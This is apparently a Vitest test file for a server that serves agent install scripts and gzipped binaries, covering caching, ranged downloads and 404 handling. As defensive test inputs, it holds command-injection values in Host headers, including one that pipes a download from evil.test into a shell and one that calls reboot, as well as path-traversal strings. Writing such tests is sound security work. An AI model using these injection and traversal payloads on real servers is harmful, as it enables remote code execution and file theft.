import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { type IncomingHttpHeaders, request, type Server } from "node:http";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFront, createListener } from "@/server/doors/front/front";
import { download } from "@/server/doors/http/download";
import { listen, portOf } from "@/testing/port-of";
import { tempFolder } from "@/testing/temp-folder";
import { agentFiles, publicOrigin } from "./agent-files";

const FILE = "trailmark-agent-linux-x64.gz";
const LICENSES = "trailmark-agent-licenses.txt.gz";
const PACKED = "0123456789".repeat(100);
const sha256 = createHash("sha256").update(PACKED).digest("hex");
const MANIFEST = {
  version: "1.2.3",
  node: "24.21.0",
  files: [
    { platform: "linux-x64", file: FILE, bytes: 1000, sha256, programBytes: 2000, programSha256: "a".repeat(64) },
  ],
  licenses: {
    ...{ platform: "licenses", file: LICENSES, bytes: 1000, sha256, programBytes: 2000, programSha256: "b".repeat(64) },
  },
};

type Got = { status: number; headers: IncomingHttpHeaders; body: string };

describe("agent install files", () => {
  let server: Server;
  const built = tempFolder();
  const empty = tempFolder();

  function routesOf(folder: string, prefix: string) {
    const files = agentFiles(folder, "https://trailmark.example:8443/");
    return [
      { path: `${prefix}/install.sh`, module: { GET: download(() => files.script("install.sh")) } },
      { path: `${prefix}/install.ps1`, module: { GET: download(() => files.script("install.ps1")) } },
      { path: `${prefix}/manifest.json`, module: { GET: download(() => files.manifest()) } },
      { path: `${prefix}/[file]`, module: { GET: download((name) => files.program(name)) } },
    ];
  }

  beforeAll(async () => {
    writeFileSync(join(built, FILE), PACKED);
    writeFileSync(join(built, LICENSES), PACKED);
    writeFileSync(join(built, "manifest.json"), JSON.stringify(MANIFEST));
    writeFileSync(join(built, "secret.gz"), "not in the manifest");
    const listener = createListener({
      routes: [...routesOf(built, "/agent"), ...routesOf(empty, "/unbuilt")],
      next: async (_, outgoing) => void outgoing.end("page"),
      origin: "https://trailmark.example:8443",
      dev: false,
    });
    server = createFront(listener);
    await listen(server);
  });
  afterAll(() => void server.close());

  async function ask(path: string, headers: Record<string, string> = {}, method = "GET"): Promise<Got> {
    const port = portOf(server);
    const asking = request({ host: "127.0.0.1", port, path, method, headers }).end();
    const [answer] = await once(asking, "response");
    return { status: answer.statusCode, headers: answer.headers, body: await text(answer) };
  }

  it.each([
    ["Host", "evil.test"],
    ["Host", "evil.test';curl evil.test|sh;'"],
    ["Host", "$(reboot)"],
    ["X-Forwarded-Host", "evil.test"],
    ["Forwarded", "host=evil.test"],
    ["X-Original-URL", "https://evil.test/"],
  ])("put the configured server URL into scripts, whatever %s says (%s)", async (name, value) => {
    for (const script of ["install.sh", "install.ps1"]) {
      const { status, body } = await ask(`/agent/${script}`, { [name]: value });
      expect(status).toBe(200);
      expect(body).toMatch(/(SERVER=|\$server = )'https:\/\/trailmark\.example:8443'\n/);
      expect(body).not.toMatch(/evil|reboot\)/);
    }
  });

  it("put version and digests into scripts and leave no placeholder", async () => {
    for (const script of ["install.sh", "install.ps1"]) {
      const { body } = await ask(`/agent/${script}`);
      expect(body).toContain(`linux-x64 ${FILE} ${sha256} ${"a".repeat(64)}`);
      expect(body).toContain("'1.2.3'");
      expect(body).not.toMatch(/@[A-Z]+@/);
    }
  });

  it.each(["https://a'b.test", "https://a$b.test", "https://a`b.test", "https://a;b.test"])(
    "reject %s in a script",
    (address) => expect(() => publicOrigin(address)).toThrow(/NEXTAUTH_URL/),
  );

  it("accept hosts, addresses and ports", () => {
    expect(publicOrigin("https://Trailmark.Example:443/x")).toBe("https://trailmark.example");
    expect(publicOrigin("http://[::1]:3000")).toBe("http://[::1]:3000");
  });

  it("include the licenses of bundled programs, which no script installs", async () => {
    expect(await ask(`/agent/${LICENSES}`)).toMatchObject({ status: 200, body: PACKED });
    expect(JSON.parse((await ask("/agent/manifest.json")).body).licenses.programSha256).toBe("b".repeat(64));
    expect((await ask("/agent/install.sh")).body).not.toContain(LICENSES);
  });

  it("have an ETag from their digest", async () => {
    const first = await ask(`/agent/${FILE}`);
    expect(first).toMatchObject({ status: 200, body: PACKED });
    expect(first.headers).toMatchObject({
      etag: `"${sha256}"`,
      "content-length": "1000",
      "content-type": "application/gzip",
      "cache-control": "public, no-cache",
      "accept-ranges": "bytes",
    });
    for (const tag of [`"${sha256}"`, `W/"${sha256}"`, `"other", "${sha256}"`, "*"])
      expect(await ask(`/agent/${FILE}`, { "If-None-Match": tag })).toMatchObject({ status: 304, body: "" });
    expect((await ask(`/agent/${FILE}`, { "If-None-Match": '"other"' })).status).toBe(200);
    const script = await ask("/agent/install.sh");
    expect((await ask("/agent/install.sh", { "If-None-Match": String(script.headers.etag) })).status).toBe(304);
  });

  it("answer HEAD with the headers of GET and no body", async () => {
    const head = await ask(`/agent/${FILE}`, {}, "HEAD");
    expect(head).toMatchObject({ status: 200, body: "", headers: { etag: `"${sha256}"`, "content-length": "1000" } });
    expect(await ask("/agent/install.sh", {}, "HEAD")).toMatchObject({ status: 200, body: "" });
  });

  it.for<[string, number, string, string | undefined]>([
    ["bytes=990-", 206, "0123456789", "bytes 990-999/1000"],
    ["bytes=0-4", 206, "01234", "bytes 0-4/1000"],
    ["bytes=-3", 206, "789", "bytes 997-999/1000"],
    ["bytes=998-5000", 206, "89", "bytes 998-999/1000"],
    ["bytes=1000-", 416, expect.stringContaining("range_not_satisfiable"), "bytes */1000"],
    ["bytes=9-5", 200, PACKED, undefined],
    ["bytes=0-1,5-6", 200, PACKED, undefined],
    ["lines=1-2", 200, PACKED, undefined],
  ])("resume an interrupted download: %s", async ([range, status, body, contentRange]) => {
    const got = await ask(`/agent/${FILE}`, { Range: range });
    expect(got).toMatchObject({ status, body });
    expect(got.headers["content-range"]).toBe(contentRange);
  });

  it("restart the download if the file has changed", async () => {
    const kept = await ask(`/agent/${FILE}`, { Range: "bytes=990-", "If-Range": `"${sha256}"` });
    expect(kept).toMatchObject({ status: 206, body: "0123456789" });
    expect(await ask(`/agent/${FILE}`, { Range: "bytes=990-", "If-Range": '"older"' })).toMatchObject({ status: 200 });
  });

  it.each([
    "/agent/secret.gz",
    "/agent/..%2f..%2fpackage.json",
    "/agent/%2e%2e%2fmanifest.json",
    "/agent/..%5cmanifest.json",
    `/agent/.%2f${FILE}`,
    `/agent/${FILE}%00`,
    "/agent/%E0%A4%A",
  ])("return 404 for %s, which is not in the manifest", async (path) => {
    const { status, body } = await ask(path);
    expect(status).toBe(404);
    expect(JSON.parse(body)).toMatchObject({
      code: "not_found",
      detail: expect.stringContaining("/agent/manifest.json"),
    });
  });

  it.each(["install.sh", "install.ps1"])("explain what to do if nothing was built: %s", async (name) => {
    const { status, body } = await ask(`/unbuilt/${name}`);
    expect(status).toBe(200);
    expect(body).toContain("'Agent installers are not built yet. Run npm run agent:build on the server.'");
  });

  it("fail in a shell if nothing was built", async () => {
    const { body } = await ask("/unbuilt/install.sh");
    const { status, stderr } = spawnSync("sh", ["-c", body], { encoding: "utf8" });
    expect(status).toBe(1);
    expect(stderr).toContain("npm run agent:build");
  });

  it.each(["manifest.json", FILE])("return 404 with instructions if nothing was built: %s", async (name) => {
    const { status, body } = await ask(`/unbuilt/${name}`);
    expect(status).toBe(404);
    expect(JSON.parse(body).detail).toContain("npm run agent:build");
  });

  it("treat a file of the wrong length as missing", async () => {
    const folder = tempFolder();
    writeFileSync(join(folder, FILE), "half");
    writeFileSync(join(folder, "manifest.json"), JSON.stringify(MANIFEST));
    await expect(agentFiles(folder, "https://t.example").program(FILE)).rejects.toThrow("npm run agent:build");
  });

  it("reject other methods", async () => {
    expect((await ask("/agent/install.sh", {}, "POST")).status).toBe(405);
  });
});
